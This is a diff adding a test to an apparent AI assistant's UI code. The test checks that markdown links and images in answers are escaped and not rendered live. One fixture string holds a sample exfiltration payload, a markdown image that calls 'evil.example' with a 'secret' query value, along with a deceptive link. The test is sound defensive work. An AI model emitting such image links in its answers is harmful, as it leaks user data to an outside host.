@@ -159,3 +159,14 @@ def test_browser_chat_sources_sessions_and_escaping(served, tmp_path):
         finally:
             browser.close()
     assert SCREENSHOT.stat().st_size > 10_000
+
+
+def test_links_and_images_in_answers_are_not_live(corpus):
+    from assistant.ui import escape_markdown_html, unescape_markdown_html
+
+    hostile = "See ![x](https://evil.example/?q=secret) and [official text](https://evil.example) `code`"
+    answer = Answer(text=hostile, citations=(), language="en", abstained=False, retrieved=())
+    markdown = render_answer(answer, corpus)
+    assert "![" not in markdown and "](" not in markdown.replace("\\](", "")
+    assert markdown.startswith("See \\!\\[x\\](https://evil.example/?q=secret)")
+    assert unescape_markdown_html(escape_markdown_html("a < b & [c]!")) == "a < b & [c]!"
